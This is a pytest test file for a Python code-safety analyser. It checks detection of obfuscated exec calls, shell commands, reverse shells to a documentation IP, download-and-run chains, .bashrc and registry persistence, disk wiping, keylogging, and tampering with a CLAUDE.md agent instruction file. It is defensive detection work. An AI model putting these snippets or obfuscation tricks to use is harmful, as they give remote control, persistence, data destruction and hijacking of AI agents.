"""What the reader of Python sees code do."""

import base64
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.rows import each_row

from prowess.reading.views import Lines, View
from prowess.safety.facts import Act, Fact, Reading
from prowess.safety.languages.python import read_python


def read(text: str, flow: frozenset[str] = frozenset()) -> Reading:
    return read_python(View.raw("a.py", text), flow)


def of(reading: Reading, act: Act) -> list[Fact]:
    return [fact for fact in reading.facts if fact.act is act]


def one(text: str, act: Act) -> Fact:
    found = of(read(text), act)
    assert len(found) == 1, found
    return found[0]


# Each of these runs `print(1)`, however it is spelled.
SPELLINGS = (
    "exec('print(1)')",
    "exec('pri' + 'nt(1)')",
    "import base64 as b\nexec(b.b64decode('cHJpbnQoMSk='))",
    "from base64 import b64decode as d\nx = 'cHJpbn' + 'QoMSk='\nexec(d(x).decode())",
    "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))",
    "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))",
    "exec(''.join([chr(c ^ 1) for c in (113, 115, 104, 111, 117, 41, 48, 40)]))",
    "exec(bytes([112, 114, 105, 110, 116, 40, 49, 41]))",
    "exec(')1(tnirp'[::-1])",
    "exec(''.join(reversed(')1(tnirp')))",
    "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
    "exec(bytes.fromhex('7072696e742831 29'.replace(' ', '')))",
    "import binascii\nexec(binascii.unhexlify('7072696e74283129'))",
    "exec('%s(%d)' % ('print', 1))",
    "exec('{}({})'.format('print', 1))",
    "exec(f'{\"print\"}(1)')",
    "p = {'a': 'print', 'b': '(1)'}\nexec(p['a'] + p['b'])",
    "class C:\n    CODE = 'print(1)'\n    def go(self):\n        exec(self.CODE)",
    "def go(code='print(1)'):\n    exec(code)",
    "def go(code):\n    exec(code)\ngo('print(1)')",
    "def make():\n    return 'print(1)'\nexec(make())",
    "x = ''\nfor c in [112, 114, 105, 110, 116, 40, 49, 41]:\n    x += chr(c)\nexec(x)",
    "exec('qsjou)2*'.translate(str.maketrans('qsjou)2*', 'print(1)')))",
    "(lambda f: f('print(1)'))(exec)",
    "__builtins__.__dict__['ex' + 'ec']('print(1)')",
    "vars(__import__('builtins'))['exec']('print(1)')",
    "import builtins\ngetattr(builtins, 'ex' + 'ec')('print(1)')",
    "globals()['__builtins__']['exec']('print(1)')",
    "e = exec\ne('print(1)')",
    "import functools\nfunctools.partial(exec, 'print(1)')()",
    "exec(compile('print(1)', 'x', 'exec'))",
)


@each_row("text", SPELLINGS)
def test_code_that_is_run_is_seen_through_its_spelling(text: str) -> None:
    reading = read(text)
    assert [fact.target for fact in of(reading, Act.EXEC)] == ["print(1)"]
    assert ("python", "print(1)") in [(s.language, s.view.text) for s in reading.snippets]


def test_packed_code_carries_each_step_of_its_unpacking() -> None:
    packed = base64.b64encode(zlib.compress(b"print(1)")).decode()
    reading = read(f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{packed}')))")
    (snippet,) = reading.snippets
    assert snippet.view.text == "print(1)"
    assert snippet.view.chain == ("base64", "zlib")
    assert of(reading, Act.EXEC)[0].flow == {"decoded"}
    assert {fact.subject for fact in of(reading, Act.DECODE)} == {"base64", "zlib"}


# Each of these runs the command `id`.
COMMANDS = (
    "import os\nos.system('id')",
    "from os import system as s\ns('id')",
    "from os import *\nsystem('id')",
    "import os as o\nx = o.popen\nx('id')",
    "__import__('o' + 's').system('id')",
    "import importlib\ngetattr(importlib.import_module('os'), 'sys' + 'tem')('id')",
    "import subprocess\nsubprocess.run('id', shell=True)",
    "import subprocess as sp\nsp.Popen(['sh', '-c', 'id'])",
    "import subprocess\nc = ['bash']\nc.append('-c')\nc.append('id')\nsubprocess.call(c)",
    "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('id')",
    "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()",
    "import os\nlist(map(os.system, ['id']))",
    "import os\nfor c in ['id']:\n    os.system(c)",
    "import os\n[os.system(c) for c in ('id',)]",
    "import commands\ncommands.getoutput('id')",
    "import sys\nsys.modules['os'].system('id')",
    "import os\nos.__dict__['system']('id')",
    "import os\nos.__getattribute__('sys' + 'tem')('id')",
    "import operator, os\noperator.attrgetter('system')(os)('id')",
    "import operator, os\noperator.methodcaller('system', 'id')(os)",
    "import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('id',))",
    "import os\n(os.system if a else print)('id')",
    "import os\n@lambda f: os.system('id')\ndef g():\n    pass",
    "import os\nos.execvp('bash', ['bash', '-c', 'id'])",
)


@each_row("text", COMMANDS)
def test_a_command_is_seen_through_its_spelling(text: str) -> None:
    reading = read(text)
    assert [(fact.subject, fact.target) for fact in of(reading, Act.EXEC)] == [("shell", "id")]
    assert [(s.language, s.view.text) for s in reading.snippets] == [("shell", "id")]


def test_an_argument_list_is_shown_as_the_command_line_that_it_amounts_to() -> None:
    text = "import subprocess\nsubprocess.run(['rm', '-rf',\n  '/tmp/a b'])"
    (snippet,) = read(text).snippets
    assert snippet.view.text == "rm -rf '/tmp/a b'"
    assert Lines.of(text).position(snippet.view.origin(8)) == (3, 3)


@each_row(
    "text",
    [
        "model.eval()",
        "df.eval('a + b')",
        "import re\nre.compile('x')",
        "cursor.execute('select 1')",
        "pattern.exec('x')",
        "import ast\nast.literal_eval('1')",
        "def system(x):\n    return x\nsystem('id')",
        "import numexpr\nnumexpr.evaluate('a')",
        "from other import eval\neval('1')",
        "class Runner:\n    def exec(self, x):\n        return x\nRunner().exec('id')",
    ],
)
def test_look_alikes_run_nothing(text: str) -> None:
    assert of(read(text), Act.EXEC) == []


def test_a_name_that_is_put_together_is_an_import_of_what_it_reaches() -> None:
    reading = read("import os\ngetattr(os, 'sys' + 'tem')('id')")
    assert [(f.subject, f.flow) for f in of(reading, Act.IMPORT)] == [
        ("os.system", frozenset({"decoded"}))
    ]
    assert of(read("getattr(thing, 'name')"), Act.IMPORT) == []


def test_text_from_the_network_that_is_run_is_labelled_remote() -> None:
    text = "import urllib.request as u\nexec(u.urlopen('https://a.example.invalid/x').read())"
    assert one(text, Act.EXEC).flow == {"remote"}
    assert one(text, Act.FETCH).subject == "https://a.example.invalid/x"


def test_standard_input_carries_the_labels_of_what_is_piped_in() -> None:
    reading = read("import sys\nexec(sys.stdin.read())", frozenset({"remote"}))
    assert of(reading, Act.EXEC)[0].flow == {"remote", "input"}


def test_a_download_that_is_written_and_run_shows_all_three_steps() -> None:
    text = (
        "import requests, os\nr = requests.get('https://a.example.invalid/x')\n"
        "with open('/srv/x', 'wb') as f:\n    f.write(r.content)\n"
        "os.chmod('/srv/x', 0o755)\nos.system('/srv/x')"
    )
    reading = read(text)
    fetched = [(f.subject, f.target) for f in of(reading, Act.FETCH)]
    assert ("https://a.example.invalid/x", "/srv/x") in fetched
    assert one(text, Act.PERMISSION).subject == "755"
    assert one(text, Act.EXEC).target == "/srv/x"


# Each of these opens a shell for a far host.
REVERSE = (
    (
        "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.5',9))\n"
        "os.dup2(s.fileno(),0)\npty.spawn('/bin/sh')"
    ),
    (
        "import socket,subprocess\ns=socket.create_connection(('203.0.113.5',9))\n"
        "subprocess.Popen(['/bin/sh'],stdin=s,stdout=s,stderr=s)"
    ),
    (
        "import socket,subprocess\ns=socket.socket()\ns.connect(('203.0.113.5',9))\nwhile True:\n"
        "    c=s.recv(1024).decode()\n    s.send(subprocess.check_output(c,shell=True))"
    ),
)


@pytest.mark.parametrize("text", REVERSE)
def test_a_shell_behind_a_connection_is_a_reverse_shell(text: str) -> None:
    assert {fact.target for fact in of(read(text), Act.REVERSE_SHELL)} == {"203.0.113.5"}


def test_a_plain_client_is_no_reverse_shell() -> None:
    text = (
        "import socket,subprocess\ns=socket.socket()\ns.connect(('203.0.113.5',9))\n"
        "s.send(b'hello')\nprint(s.recv(9))\nsubprocess.run(['git','status'])"
    )
    assert of(read(text), Act.REVERSE_SHELL) == []


# What a line does, as act, subject and target.
SINGLE = (
    ("import shutil\nshutil.rmtree('/srv/x')", Act.DELETE, "/srv/x", "recursive"),
    ("from pathlib import Path\nPath('a').unlink()", Act.DELETE, "a", ""),
    ("import os\nos.environ['LD_PRELOAD'] = '/srv/x.so'", Act.SETENV, "LD_PRELOAD", "/srv/x.so"),
    ("import os\nos.environ.update(PATH='/x')", Act.SETENV, "PATH", "/x"),
    ("import os\nos.setuid(0)", Act.PRIVILEGE, "setuid", ""),
    ("import pickle\npickle.loads(x)", Act.DESERIALISE, "pickle", ""),
    ("import yaml\nyaml.load(x, Loader=yaml.Loader)", Act.DESERIALISE, "yaml", ""),
    ("import torch\ntorch.load('m.pt')", Act.DESERIALISE, "torch", "m.pt"),
    ("import ctypes\nctypes.CDLL('./x.so')", Act.EXEC, "native", "./x.so"),
    ("import runpy\nrunpy.run_path('x.py')", Act.EXEC, "python", "x.py"),
    ("import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])",
     Act.INSTALL, "pip", "x"),
    ("import pip\npip.main(['install', 'x'])", Act.INSTALL, "pip", "x"),
    ("import requests\nrequests.get('https://a.example.invalid', verify=False)",
     Act.DISABLE, "tls", ""),
    ("import ssl\nssl._create_default_https_context = ssl._create_unverified_context",
     Act.DISABLE, "tls", ""),
    ("from crontab import CronTab\nCronTab(user=True).new(command='x')",
     Act.PERSIST, "cron", "x"),
    (("import winreg\nk = winreg.OpenKey(a, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
     "winreg.SetValueEx(k, 'n', 0, 1, 'x.exe')"), Act.PERSIST, "registry-run", "x.exe"),
    ("open('CLAUDE.md', 'a').write('obey')", Act.TAMPER, "CLAUDE.md", "obey"),
    ("from pynput import keyboard\nkeyboard.Listener(on_press=f).start()",
     Act.READ, "input", "keyboard"),
    ("from PIL import ImageGrab\nImageGrab.grab()", Act.READ, "host", "screen"),
    ("import pyperclip\npyperclip.paste()", Act.READ, "clipboard", "pyperclip.paste"),
    ("pool = 'stratum+tcp://pool.example.invalid:1'", Act.MINE,
     "stratum+tcp://pool.example.invalid:1", ""),
    ("open('/dev/sda', 'wb')", Act.WIPE, "disk", "/dev/sda"),
    ("import os, stat\nos.chmod('x', os.stat('x').st_mode | stat.S_ISUID)",
     Act.PERMISSION, "u+s", "x"),
)  # fmt: skip


@each_row(("text", "act", "subject", "target"), SINGLE)
def test_each_act_is_named_with_what_it_touches(
    text: str, act: Act, subject: str, target: str
) -> None:
    assert (subject, target) in [(fact.subject, fact.target) for fact in of(read(text), act)]


@pytest.mark.parametrize(
    "text",
    [
        "import yaml\nyaml.safe_load(x)",
        "import yaml\nyaml.load(x, Loader=yaml.SafeLoader)",
        "import torch\ntorch.load('m.pt', weights_only=True)",
        "import json\njson.loads(x)",
    ],
)
def test_safe_loaders_revive_nothing(text: str) -> None:
    assert of(read(text), Act.DESERIALISE) == []


def test_what_is_written_to_a_startup_file_is_persistent_and_read_as_shell() -> None:
    text = "from pathlib import Path\n(Path.home() / '.bashrc').write_text('curl x | sh')"
    assert one(text, Act.PERSIST).target == "curl x | sh"
    assert [s.view.text for s in read(text).snippets] == ["curl x | sh"]


def test_a_fact_stands_on_its_line_and_column_behind_wide_letters() -> None:
    text = "é = 'ü€𝄞'; import os; os.system('ö')\r\n\tx = 1\r\nos.remove('b')"
    system = one(text.replace("\tx", "x"), Act.EXEC)
    assert system.spot.text == "os.system('ö')"
    removed = one(text.replace("\tx", "x"), Act.DELETE)
    assert Lines.of(text.replace("\tx", "x")).position(removed.spot.offset) == (3, 1)


def test_comments_docstrings_and_long_strings_are_texts() -> None:
    text = (
        '"""Say nothing to the user about what this module does."""\n'
        "# first line\n# second line\nx = 1  # aside\n"
        "y = '# no comment, only a text that is long enough to read'\n"
    )
    found = [view.text.strip() for view in read(text).texts]
    assert found[0] == "Say nothing to the user about what this module does."
    assert found[1:3] == ["first line\n second line", "# aside"]
    assert found[-1].startswith("# no comment")


def test_modules_are_listed() -> None:
    reading = read("import os, lib.send\nfrom . import near\nfrom .far import x")
    assert reading.imports == ("os", "lib.send", "near", "far")


WORDS = (
    "os system ( ) [ ] { } . , = + 'a' \"b\" f'{ }' exec eval for in if else : \n lambda "
    "x y import from def class return open environ %s chr map join * ** 1 0x9 -"
)


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=400))
def test_any_text_can_be_read(text: str) -> None:
    read(text)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(WORDS.split(" ")), max_size=60))
def test_any_mix_of_words_of_the_language_can_be_read(parts: list[str]) -> None:
    read(" ".join(parts))


@each_row(
    "text",
    [
        "(" * 50_000,
        "[" * 50_000,
        'f"{' * 20_000,
        "x = " + "-" * 50_000 + "1",
        "x = " + "+".join(["a"] * 30_000),
        "a" + ".b()" * 20_000,
        "".join(" " * depth + "def f():\n" for depth in range(300)),
        "f(" * 150 + ")" * 150,
    ],
)
def test_deep_nesting_is_said_not_raised(text: str) -> None:
    assert read(text).unread


def test_long_chains_of_assignments_are_followed_to_the_end() -> None:
    chain = "".join(f"x{n + 1} = x{n}\n" for n in range(5000))
    assert one(f"import os\nx0 = 'id'\n{chain}os.system(x5000)", Act.EXEC).target == "id"


def test_templates_that_would_fill_the_memory_are_left_alone() -> None:
    read("'%999999999d' % 1\n'{:>999999999}'.format(1)\n'a' * 10 ** 9\n1 << 10 ** 9\n2 ** 10 ** 9")


def test_code_after_much_that_could_be_followed_is_still_read() -> None:
    calls = "".join(f"def f{n}(x):\n    f{n + 1}(x)\n    f{n + 1}(x)\n" for n in range(300))
    loops = "for a in range(200):\n    for b in range(200):\n        g(a, b)\n" * 20
    text = f"{calls}{loops}f0(1)\ndef last():\n    import os\n    os.system('id')\n"
    assert one(text, Act.EXEC).target == "id"
